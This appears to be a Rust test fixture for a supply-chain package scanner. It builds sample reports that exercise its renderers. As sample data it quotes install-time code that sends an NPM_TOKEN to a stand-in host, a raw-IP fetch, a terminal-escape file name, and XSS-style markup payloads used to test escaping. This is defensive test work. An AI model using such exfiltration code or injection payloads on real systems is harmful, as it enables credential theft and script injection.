//! A hand-built report exercising every part of the renderers.

use ferret_core::{
    Action, Capability, CapabilitySummary, CapabilityUse, Category, Ecosystem, Evidence, Excerpt,
    FileError, Finding, Location, PackageInfo, PackageReport, Related, ScanError, ScanReport,
    Severity, Span, UseKind,
};

fn loc(path: &str, line: u32, column: u32) -> Location {
    Location {
        path: path.to_string(),
        line,
        column,
        span: Span::new(line * 10, line * 10 + 5),
    }
}

fn excerpt(line: u32, text: &str, start: u32, len: u32) -> Excerpt {
    Excerpt {
        line,
        text: text.to_string(),
        highlight_start: start,
        highlight_len: len,
    }
}

fn cap_use(cap: Capability, api: &str, path: &str, line: u32, install: bool) -> CapabilityUse {
    CapabilityUse {
        capability: cap,
        api: api.to_string(),
        kind: UseKind::Call,
        location: loc(path, line, 1),
        code: excerpt(line, &format!("{api}(x)"), 0, 4),
        detail: None,
        install_time: install,
    }
}

fn finding(rule: &str, severity: Severity, action: Action, message: &str) -> Finding {
    Finding {
        rule: rule.to_string(),
        category: Category::Capability,
        severity,
        action,
        message: message.to_string(),
        location: None,
        label: None,
        code: None,
        related: Vec::new(),
        install_time: false,
        evidence: Evidence::new(),
    }
}

pub(crate) fn sample_report() -> ScanReport {
    let shell_uses = vec![
        cap_use(
            Capability::Shell,
            "child_process.exec",
            "install.js",
            3,
            true,
        ),
        cap_use(
            Capability::Shell,
            "child_process.spawn",
            "lib/a.js",
            10,
            false,
        ),
        cap_use(
            Capability::Shell,
            "child_process.fork",
            "lib/b.js",
            2,
            false,
        ),
        cap_use(
            Capability::Shell,
            "child_process.exec",
            "lib/c.js",
            7,
            false,
        ),
    ];
    let mut env_use = cap_use(Capability::Env, "process.env", "install.js", 1, true);
    env_use.detail = Some("NPM_TOKEN".into());

    let mut malware = finding(
        "malware",
        Severity::Critical,
        Action::Block,
        "install-time code sends `process.env.NPM_TOKEN` to `https://collect.example.invalid`",
    );
    malware.category = Category::Malicious;
    malware.location = Some(loc("install.js", 3, 11));
    malware.label = Some("data sent here".into());
    malware.code = Some(excerpt(
        3,
        "const r = https.request('https://collect.example.invalid', {method: 'POST'})",
        10,
        13,
    ));
    malware.related.push(Related {
        location: loc("install.js", 1, 13),
        label: "secret read here".into(),
        code: Some(excerpt(1, "const tok = process.env.NPM_TOKEN;", 12, 21)),
    });
    malware.related.push(Related {
        location: loc("package.json", 5, 5),
        label: "runs at install".into(),
        code: None,
    });
    malware.install_time = true;
    malware
        .evidence
        .insert("url".into(), "https://collect.example.invalid".into());

    let mut endpoint = finding(
        "suspicious-endpoint",
        Severity::High,
        Action::Warn,
        "request to a raw IP address `198.51.100.7`",
    );
    endpoint.category = Category::Malicious;
    endpoint.location = Some(loc("lib/é.js", 4, 7));
    endpoint.label = Some("endpoint".into());
    // A non-ASCII, cut excerpt: the underline must count characters, not bytes.
    endpoint.code = Some(excerpt(4, "…é€ fetch('http://198.51.100.7/x')…", 11, 21));

    let mut shell = finding(
        "shell-access",
        Severity::Medium,
        Action::Info,
        "`child_process.exec` can run shell commands",
    );
    shell.location = Some(loc("install.js", 3, 1));
    let mut telemetry = finding(
        "telemetry",
        Severity::Low,
        Action::Monitor,
        "sends usage data",
    );
    telemetry.location = Some(loc("lib/a.js", 2, 1));

    // A hostile file name carrying a terminal escape sequence.
    let failed = FileError {
        path: "lib/\u{1b}[31mevil.js".into(),
        reason: "parse error: Unexpected token at 1:5".into(),
    };

    let evil = PackageReport {
        package: PackageInfo {
            ecosystem: Ecosystem::Npm,
            name: "evil-pkg".into(),
            version: "1.0.3".into(),
            integrity: Some("sha512-AAAAbbbbCCCCdddd==".into()),
            source: "https://registry.example.invalid/evil-pkg/-/evil-pkg-1.0.3.tgz".into(),
            file_count: 6,
            unpacked_size: 23_456,
        },
        capabilities: vec![
            CapabilitySummary {
                capability: Capability::Shell,
                count: shell_uses.len(),
                install_time: true,
                locations: shell_uses,
            },
            CapabilitySummary {
                capability: Capability::Env,
                count: 1,
                install_time: true,
                locations: vec![env_use],
            },
            CapabilitySummary {
                capability: Capability::Network,
                count: 1,
                install_time: false,
                locations: vec![cap_use(
                    Capability::Network,
                    "https.request",
                    "install.js",
                    3,
                    false,
                )],
            },
        ],
        alerts: vec![malware, endpoint, telemetry, shell],
        files_failed: vec![failed],
        project: None,
        not_evaluated: Vec::new(),
    };

    let clean = PackageReport {
        package: PackageInfo {
            ecosystem: Ecosystem::Npm,
            name: "@scope/clean".into(),
            version: "2.0.0".into(),
            integrity: None,
            source: "./clean".into(),
            file_count: 1,
            unpacked_size: 900,
        },
        capabilities: Vec::new(),
        alerts: Vec::new(),
        files_failed: Vec::new(),
        project: None,
        not_evaluated: Vec::new(),
    };

    ScanReport {
        schema_version: ferret_core::SCHEMA_VERSION,
        ferret_version: "0.1.0".into(),
        packages: vec![evil, clean],
        errors: vec![ScanError {
            target: "npm:missing@9.9.9".into(),
            error: "version 9.9.9 of `missing` not found".into(),
        }],
        project: None,
    }
}

/// Rule descriptors for the SARIF renderer, as the CLI builds them from the registry.
pub(crate) fn sample_rules() -> Vec<crate::RuleDescriptor> {
    let rule = |id: &str, name: &str, summary: &str, action, severity, category| {
        crate::RuleDescriptor {
            id: id.into(),
            name: name.into(),
            summary: summary.into(),
            docs_markdown: format!(
                "## What it does\n{summary}.\n\n## Why is this a risk?\nIt is.\n\n## Example\n```js\nx()\n```\n"
            ),
            default_action: action,
            severity,
            category,
        }
    };
    vec![
        rule(
            "shell-access",
            "ShellAccess",
            "Flags code that can start an operating-system process",
            Action::Info,
            Severity::Medium,
            Category::Capability,
        ),
        rule(
            "suspicious-endpoint",
            "SuspiciousEndpoint",
            "Flags requests to raw IP addresses and paste sites",
            Action::Warn,
            Severity::High,
            Category::Malicious,
        ),
        rule(
            "telemetry",
            "Telemetry",
            "Flags code that sends usage data",
            Action::Monitor,
            Severity::Low,
            Category::Malicious,
        ),
        rule(
            "malware",
            "Malware",
            "The verdict: the package is malicious",
            Action::Block,
            Severity::Critical,
            Category::Malicious,
        ),
    ]
}

/// [`sample_report`] as a project scan: `evil-pkg` installed in node_modules and reached
/// through two dependency paths, the clean package fetched from the registry, and a package
/// with hostile markup in its name and message (for the markdown renderer's escaping).
pub(crate) fn sample_project_report() -> ScanReport {
    use ferret_core::{LockfileRef, ProjectInfo, ProjectPackage};
    let mut report = sample_report();
    report.errors.clear();
    report.project = Some(ProjectInfo {
        root: ".".into(),
        name: Some("my-app@1.0.0".into()),
        lockfiles: vec!["package-lock.json".into()],
        sources: [("node_modules".to_string(), 2), ("registry".to_string(), 1)]
            .into_iter()
            .collect(),
        direct: 1,
        transitive: 2,
        notes: vec!["offline: 1 package not checked".into()],
        ..ProjectInfo::default()
    });
    report.packages[0].project = Some(ProjectPackage {
        direct: false,
        dev: true,
        paths: vec![
            vec!["my-app".into(), "jest".into(), "evil-pkg@1.0.3".into()],
            vec![
                "my-app".into(),
                "ts-jest".into(),
                "jest".into(),
                "evil-pkg@1.0.3".into(),
            ],
        ],
        lockfile: Some(LockfileRef {
            path: "package-lock.json".into(),
            line: 120,
        }),
        origin: "node_modules".into(),
    });
    report.packages[1].project = Some(ProjectPackage {
        direct: true,
        dev: false,
        paths: vec![vec!["my-app".into(), "@scope/clean@2.0.0".into()]],
        lockfile: Some(LockfileRef {
            path: "package-lock.json".into(),
            line: 40,
        }),
        origin: "registry".into(),
    });

    // A hostile package: markup, a link and a table-breaking pipe in its name, message and
    // code, installed but absent from the lockfile (no lockfile line).
    let mut hostile = report.packages[0].clone();
    hostile.package.name = "<img src=x onerror=alert(1)>|[click](https://evil.example)".into();
    hostile.package.version = "0.0.1".into();
    hostile.capabilities.truncate(1);
    hostile.files_failed.clear();
    hostile.alerts.truncate(2);
    hostile.alerts.remove(0);
    hostile.alerts[0].message =
        "request to `</code><script>x</script>` and **[here](javascript:alert(1))** | x".into();
    if let Some(code) = hostile.alerts[0].code.as_mut() {
        code.text = "fetch(`x`)``` </details> <b>".into();
    }
    hostile.project = Some(ProjectPackage {
        direct: true,
        dev: false,
        paths: vec![vec!["my-app".into(), "<b>bold</b>".into()]],
        lockfile: None,
        origin: "node_modules".into(),
    });
    report.packages.push(hostile);
    report
}
